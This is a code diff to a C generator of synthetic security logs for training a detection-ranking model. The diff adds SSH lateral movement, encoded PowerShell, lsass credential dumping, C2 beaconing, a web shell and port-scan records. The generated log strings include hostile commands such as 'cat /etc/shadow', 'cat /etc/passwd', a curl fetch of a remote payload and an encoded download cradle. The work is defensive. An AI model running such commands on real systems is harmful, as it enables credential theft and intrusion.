@@ -13,6 +13,18 @@
  * it gets in) and benign look-alikes are added (an employee locked out by typos),
  * which is what the ranking model must learn to tell apart.
  *
+ * The SSH campaign then moves laterally: from the compromised host's address, with
+ * the stolen account, to one or two other servers, where it runs sudo again.
+ * With `endpoint`, more campaigns arrive as JSON lines in real endpoint formats:
+ * Sysmon (Windows) EventID 1 `powershell -enc ...` and EventID 10 lsass access
+ * (credential dumping) on a workstation, Sysmon EventID 3 connections from an
+ * implant to a C2 server at a fixed interval with jitter (beaconing), a web shell
+ * (nginx POSTs to /uploads/x.php, then www-data spawning sh, as an ECS process
+ * event like auditbeat's), and a port scan (UFW drops from one source to many
+ * ports, syslog); benign look-alikes come with them (admins' encoded PowerShell
+ * one-liners, a backup agent's periodic connections) so ranking has work to do.
+ * Noise follows a daily rhythm: busier in working hours.
+ *
  * Same params, same bytes: every choice comes from one splitmix64 stream.
  */
 #include "vg_engine.h"
@@ -25,6 +37,7 @@ struct gen {
 	struct vg_scenario *sc;
 	size_t cap;
 	vg_err err;
+	const char *campaign; /* set while generating an attack campaign */
 };
 
 static uint64_t next_u64(struct gen *g)
@@ -118,8 +131,89 @@ static void emit(struct gen *g, vg_time ts, bool attack, bool rfc5424, int pri,
 		sc->records = nr;
 		g->cap = ncap;
 	}
-	sc->records[sc->count++] = (struct vg_scenario_record){b.data, host, attack, ts};
+	sc->records[sc->count++] = (struct vg_scenario_record){
+	    b.data, host, attack, ts, false, attack ? g->campaign : NULL};
 	sc->attack_records += attack;
+}
+
+/* Append one JSON line (endpoint event) built by the caller. */
+static void emit_json(struct gen *g, vg_time ts, bool attack, const char *host,
+                      struct vg_buf *b)
+{
+	struct vg_scenario *sc = g->sc;
+	if (g->err || b->oom) {
+		g->err = g->err ? g->err : VG_ERR_NOMEM;
+		vg_buf_free(b);
+		return;
+	}
+	if (sc->count == g->cap) {
+		size_t ncap = g->cap ? g->cap * 2 : 1024;
+		struct vg_scenario_record *nr = realloc(sc->records, ncap * sizeof(*nr));
+		if (!nr) {
+			g->err = VG_ERR_NOMEM;
+			vg_buf_free(b);
+			return;
+		}
+		sc->records = nr;
+		g->cap = ncap;
+	}
+	sc->records[sc->count++] = (struct vg_scenario_record){
+	    b->data, host, attack, ts, true, attack ? g->campaign : NULL};
+	sc->attack_records += attack;
+	vg_buf_init(b);
+}
+
+/* A Sysmon event as a JSON line (the field names of the Windows event). */
+static void sysmon(struct gen *g, vg_time ts, bool attack, const char *host, int id,
+                   const char *const *kv)
+{
+	struct vg_buf b;
+	char t[32];
+	vg_buf_init(&b);
+	vg_time_format(ts, t);
+	vg_buf_printf(&b,
+	              "{\"EventID\":%d,\"Provider_Name\":\"Microsoft-Windows-Sysmon\","
+	              "\"Channel\":\"Microsoft-Windows-Sysmon/Operational\","
+	              "\"Computer\":",
+	              id);
+	vg_buf_json_str(&b, host, strlen(host));
+	vg_buf_puts(&b, ",\"UtcTime\":");
+	vg_buf_json_str(&b, t, strlen(t));
+	for (size_t i = 0; kv[i]; i += 2) {
+		vg_buf_putc(&b, ',');
+		vg_buf_json_str(&b, kv[i], strlen(kv[i]));
+		vg_buf_putc(&b, ':');
+		vg_buf_json_str(&b, kv[i + 1], strlen(kv[i + 1]));
+	}
+	vg_buf_putc(&b, '}');
+	emit_json(g, ts, attack, host, &b);
+}
+
+/* An ECS process-start event as a JSON line (auditbeat-like, Linux). */
+static void ecs_process(struct gen *g, vg_time ts, bool attack, const char *host,
+                        const char *user, const char *exe, const char *cmd,
+                        const char *parent)
+{
+	struct vg_buf b;
+	char t[32];
+	vg_buf_init(&b);
+	vg_time_format(ts, t);
+	vg_buf_puts(&b, "{\"@timestamp\":");
+	vg_buf_json_str(&b, t, strlen(t));
+	vg_buf_puts(&b, ",\"event.module\":\"linux\",\"event.dataset\":\"process\","
+	                "\"event.category\":\"process\",\"event.type\":\"start\","
+	                "\"host.name\":");
+	vg_buf_json_str(&b, host, strlen(host));
+	vg_buf_puts(&b, ",\"user.name\":");
+	vg_buf_json_str(&b, user, strlen(user));
+	vg_buf_puts(&b, ",\"process.executable\":");
+	vg_buf_json_str(&b, exe, strlen(exe));
+	vg_buf_puts(&b, ",\"process.command_line\":");
+	vg_buf_json_str(&b, cmd, strlen(cmd));
+	vg_buf_puts(&b, ",\"process.parent.executable\":");
+	vg_buf_json_str(&b, parent, strlen(parent));
+	vg_buf_putc(&b, '}');
+	emit_json(g, ts, attack, host, &b);
 }
 
 static vg_time secs(int64_t s)
@@ -244,9 +338,28 @@ static void host_hour(struct gen *g, vg_time hour_start, const char *host,
 	}
 }
 
-/* The attack: brute force -> login -> sudo to root -> tooling. */
-static void campaign(struct gen *g, vg_time t, const char *host, bool vary)
+static const char *const g_workstations[] = {"ws01", "ws02", "ws03"};
+static const char *const g_host_ips[] = {"10.0.0.11", "10.0.0.12", "10.0.0.13",
+                                         "10.0.0.14", "10.0.0.15", "10.0.0.16"};
+
+static int host_index(const char *host)
 {
+	for (size_t i = 0; i < sizeof(g_hosts) / sizeof(g_hosts[0]); i++)
+		if (!strcmp(g_hosts[i], host))
+			return (int)i;
+	return 0;
+}
+
+/* Servers' own addresses (what another server's sshd logs as the source). */
+static const char *host_ip(const char *host)
+{
+	return g_host_ips[host_index(host)];
+}
+
+/* The attack: brute force -> login -> sudo to root -> tooling -> lateral moves. */
+static void campaign(struct gen *g, vg_time t, const char *host, bool vary, int nhosts)
+{
+	g->campaign = "ssh";
 	char ip[32];
 	const char *user = "deploy";
 	int pid = rnd(g, 2000, 60000);
@@ -272,8 +385,10 @@ static void campaign(struct gen *g, vg_time t, const char *host, bool vary)
 		     invalid ? "invalid user " : "", u, ip, port);
 		t += secs(rnd(g, 1, 4));
 	}
-	if (!gets_in)
+	if (!gets_in) {
+		g->campaign = NULL;
 		return;
+	}
 	int port = rnd(g, 30000, 65000);
 	t += secs(rnd(g, 5, 60));
 	emit(g, t, true, false, 38, host, "sshd", pid,
@@ -291,6 +406,174 @@ static void campaign(struct gen *g, vg_time t, const char *host, bool vary)
 	    "  %s : TTY=pts/1 ; PWD=/tmp ; USER=root ; COMMAND=/usr/bin/curl -so /tmp/.x "
 	    "http://%s/x",
 	    user, ip);
+	/* Lateral movement: from this host's address, with the stolen account. */
+	int hops = vary ? rnd(g, 0, 2) : 2;
+	const char *from_ip = host_ip(host);
+	for (int h = 0, k = 0; h < hops && k < nhosts; k++) {
+		const char *to = g_hosts[(host_index(host) + 1 + k) % nhosts];
+		if (!strcmp(to, host))
+			continue;
+		int p2 = rnd(g, 2000, 60000), port2 = rnd(g, 30000, 65000);
+		t += secs(rnd(g, 120, 900));
+		emit(g, t, true, false, 38, to, "sshd", p2,
+		     "Accepted password for %s from %s port %d ssh2", user, from_ip,
+		     port2);
+		emit(g, t, true, false, 86, to, "sshd", p2,
+		     "pam_unix(sshd:session): session opened for user %s(uid=1001) by "
+		     "(uid=0)",
+		     user);
+		t += secs(rnd(g, 20, 180));
+		emit(g, t, true, false, 85, to, "sudo", 0,
+		     "  %s : TTY=pts/0 ; PWD=/home/%s ; USER=root ; COMMAND=/bin/cat "
+		     "/etc/shadow",
+		     user, user);
+		h++;
+	}
+}
+
+/* Common Log Format time: "20/Nov/2026:14:00:00 +0000". */
+static void clf_time(vg_time t, char out[40])
+{
+	int y, mo, d, h, mi, s;
+	vg_time_to_civil(t, &y, &mo, &d, &h, &mi, &s, NULL);
+	snprintf(out, 40, "%02d/%s/%04d:%02d:%02d:%02d +0000", d, g_months[mo - 1], y, h,
+	         mi, s);
+}
+
+/* Encoded PowerShell, then lsass memory read (credential dumping) on a Windows
+ * workstation, then an implant that beacons to its C2 server. */
+static void endpoint_campaign(struct gen *g, vg_time t, bool vary)
+{
+	const char *ws = vary ? PICK(g, g_workstations) : "ws01";
+	char c2[32], user[64], cmd[256], pid[16], ppid[16];
+	int interval = vary ? rnd(g, 30, 300) : 60;
+	int beacons = vary ? rnd(g, 8, 40) : 30;
+
+	ip_external(g, c2, sizeof(c2));
+	snprintf(user, sizeof(user), "CORP\\%s", PICK(g, g_staff));
+	snprintf(pid, sizeof(pid), "%d", rnd(g, 1000, 9000));
+	snprintf(ppid, sizeof(ppid), "%d", rnd(g, 1000, 9000));
+	g->campaign = "endpoint";
+	snprintf(
+	    cmd, sizeof(cmd),
+	    "powershell.exe -nop -w hidden -enc "
+	    "SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABp%04x",
+	    (unsigned)rnd(g, 0, 0xffff));
+	const char *e1[] = {
+	    "Image",
+	    "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
+	    "CommandLine",
+	    cmd,
+	    "ParentImage",
+	    "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE",
+	    "User",
+	    user,
+	    "ProcessId",
+	    pid,
+	    NULL};
+	sysmon(g, t, true, ws, 1, e1);
+	t += secs(rnd(g, 30, 300));
+	const char *e10[] = {"SourceImage",
+	                     "C:\\Users\\Public\\svchost.exe",
+	                     "TargetImage",
+	                     "C:\\Windows\\System32\\lsass.exe",
+	                     "GrantedAccess",
+	                     "0x1010",
+	                     "User",
+	                     user,
+	                     NULL};
+	sysmon(g, t, true, ws, 10, e10);
+	for (int i = 0; i < beacons; i++) {
+		char port[8];
+		t += secs(interval + rnd(g, -interval / 10, interval / 10));
+		snprintf(port, sizeof(port), "%d", rnd(g, 49152, 65535));
+		const char *e3[] = {"Image",
+		                    "C:\\Users\\Public\\svchost.exe",
+		                    "User",
+		                    user,
+		                    "Protocol",
+		                    "tcp",
+		                    "SourceIp",
+		                    "10.0.5.21",
+		                    "SourcePort",
+		                    port,
+		                    "DestinationIp",
+		                    c2,
+		                    "DestinationPort",
+		                    "443",
+		                    NULL};
+		sysmon(g, t, true, ws, 3, e3);
+	}
+	g->campaign = NULL;
+}
+
+/* A web shell: POSTs to an uploaded PHP file, then the web server's user runs a
+ * shell; the attacker then scans from outside (UFW drops to many ports). */
+static void webshell_campaign(struct gen *g, vg_time t, const char *host, bool vary)
+{
+	char ip[32];
+	ip_external(g, ip, sizeof(ip));
+	g->campaign = "webshell";
+	int posts = vary ? rnd(g, 1, 5) : 3;
+	for (int i = 0; i < posts; i++) {
+		char clf[40];
+		clf_time(t, clf);
+		emit(g, t, true, true, 190, host, "nginx", rnd(g, 100, 999),
+		     "%s - - [%s] \"POST /uploads/x.php HTTP/1.1\" 200 %d \"-\" "
+		     "\"python-requests/2.31\"",
+		     ip, clf, rnd(g, 20, 400));
+		ecs_process(g, t + secs(1), true, host, "www-data", "/bin/sh",
+		            i == 0 ? "sh -c id" : "sh -c uname -a; cat /etc/passwd",
+		            "/usr/sbin/php-fpm8.2");
+		t += secs(rnd(g, 20, 120));
+	}
+	g->campaign = "portscan";
+	int ports = vary ? rnd(g, 25, 200) : 120;
+	char scanner[32];
+	ip_external(g, scanner, sizeof(scanner));
+	for (int i = 0; i < ports; i++) {
+		emit(g, t, true, false, 4, host, "kernel", 0,
+		     "[UFW BLOCK] IN=eth0 OUT= SRC=%s DST=%s LEN=44 PROTO=TCP SPT=%d "
+		     "DPT=%d",
+		     scanner, host_ip(host), rnd(g, 30000, 65000), 1 + i * 37 % 10000);
+		t += secs(rnd(g, 0, 1));
+	}
+	g->campaign = NULL;
+}
+
+/* Benign look-alikes of the endpoint campaigns: an admin's encoded one-liner,
+ * a backup agent phoning home every few minutes. */
+static void endpoint_noise(struct gen *g, vg_time hs, int hod)
+{
+	bool working = hod >= 8 && hod < 19;
+	const char *ws = PICK(g, g_workstations);
+	if (working && chance(g, 10)) {
+		const char *e1[] = {
+		    "Image",
+		    "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
+		    "CommandLine",
+		    "powershell.exe -NoProfile -enc RwBlAHQALQBTAGUAcgB2AGkAYwBlAA==",
+		    "ParentImage",
+		    "C:\\Windows\\System32\\svchost.exe",
+		    "User",
+		    "CORP\\itadmin",
+		    NULL};
+		sysmon(g, hs + secs(rnd(g, 0, 3599)), false, ws, 1, e1);
+	}
+	for (int m = 0; m < 60; m += 15) {
+		const char *e3[] = {"Image",
+		                    "C:\\Program Files\\Backup\\agent.exe",
+		                    "User",
+		                    "NT AUTHORITY\\SYSTEM",
+		                    "Protocol",
+		                    "tcp",
+		                    "DestinationIp",
+		                    "10.0.9.5",
+		                    "DestinationPort",
+		                    "8443",
+		                    NULL};
+		sysmon(g, hs + secs(m * 60 + rnd(g, 0, 30)), false, ws, 3, e3);
+	}
 }
 
 static int cmp_records(const void *a, const void *b)
@@ -306,7 +589,7 @@ static int cmp_records(const void *a, const void *b)
 vg_err vg_scenario_generate(const struct vg_scenario_params *params,
                             struct vg_scenario *out)
 {
-	struct gen g = {params->seed ^ UINT64_C(0x5eed), out, 0, VG_OK};
+	struct gen g = {params->seed ^ UINT64_C(0x5eed), out, 0, VG_OK, NULL};
 	int hosts = params->hosts > 0 ? params->hosts : 3;
 	int hours = params->hours > 0 ? params->hours : 6;
 
@@ -322,6 +605,8 @@ vg_err vg_scenario_generate(const struct vg_scenario_params *params,
 		if (params->variants && chance(&g, 25))
 			staff_session(&g, hs + secs(rnd(&g, 60, 3000)),
 			              g_hosts[rnd(&g, 0, hosts - 1)], true);
+		if (params->endpoint)
+			endpoint_noise(&g, hs, hod);
 	}
 	if (params->attack) {
 		int campaigns = params->variants ? rnd(&g, 1, 2) : 1;
@@ -333,7 +618,30 @@ vg_err vg_scenario_generate(const struct vg_scenario_params *params,
 			campaign(&g, t,
 			         params->variants ? g_hosts[rnd(&g, 0, hosts - 1)]
 			                          : "web01",
-			         params->variants);
+			         params->variants, hosts);
+			g.campaign = NULL;
+			out->campaigns++;
+		}
+	}
+	if (params->attack && params->endpoint) {
+		vg_time span = (vg_time)hours * 3600;
+		if (!params->variants || chance(&g, 70)) {
+			endpoint_campaign(&g,
+			                  params->start +
+			                      secs(params->variants
+			                               ? rnd(&g, 600, (int)span - 3600)
+			                               : span / 3),
+			                  params->variants);
+			out->campaigns++;
+		}
+		if (!params->variants || chance(&g, 60)) {
+			webshell_campaign(
+			    &g,
+			    params->start + secs(params->variants
+			                             ? rnd(&g, 600, (int)span - 1800)
+			                             : span * 2 / 3),
+			    params->variants ? g_hosts[rnd(&g, 0, hosts - 1)] : "web02",
+			    params->variants);
 			out->campaigns++;
 		}
 	}
